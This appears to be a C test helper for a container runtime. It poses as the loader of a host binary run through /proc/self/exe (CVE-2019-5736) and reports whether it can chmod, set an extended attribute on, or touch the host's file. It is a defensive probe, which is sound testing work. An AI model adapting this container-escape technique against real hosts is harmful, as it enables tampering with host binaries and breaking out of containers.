/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Plays the loader (PT_INTERP) of a program of the host that is made to run inside a
 * container by a script whose interpreter is /proc/self/exe: what runs then is the
 * image's code, and /proc/self/exe is the host's file (CVE-2019-5736). Says what
 * it could do to it.
 */
#include <asm/fcntl.h>

#include "base/raw_sys.h"

#ifndef AT_FDCWD
#define AT_FDCWD -100
#endif

void _start(void);

static void say(const char *s, unsigned long n)
{
	sys3(__NR_write, 1, s, n);
}
#define SAY(s) say(s, sizeof(s) - 1)

void __attribute__((noreturn)) _start(void)
{
	static const char exe[] = "/proc/self/exe", name[] = "user.escape";

	SAY("loader runs\n");
	if (sys3(__NR_fchmodat, AT_FDCWD, exe, 0777) >= 0)
		SAY("changed: chmod\n");
	if (sys5(__NR_setxattr, exe, name, name, 4, 0) >= 0)
		SAY("changed: setxattr\n");
	if (sys4(__NR_utimensat, AT_FDCWD, exe, 0, 0) >= 0)
		SAY("changed: utimens\n");
	for (;;)
		sys1(__NR_exit_group, 0);
}
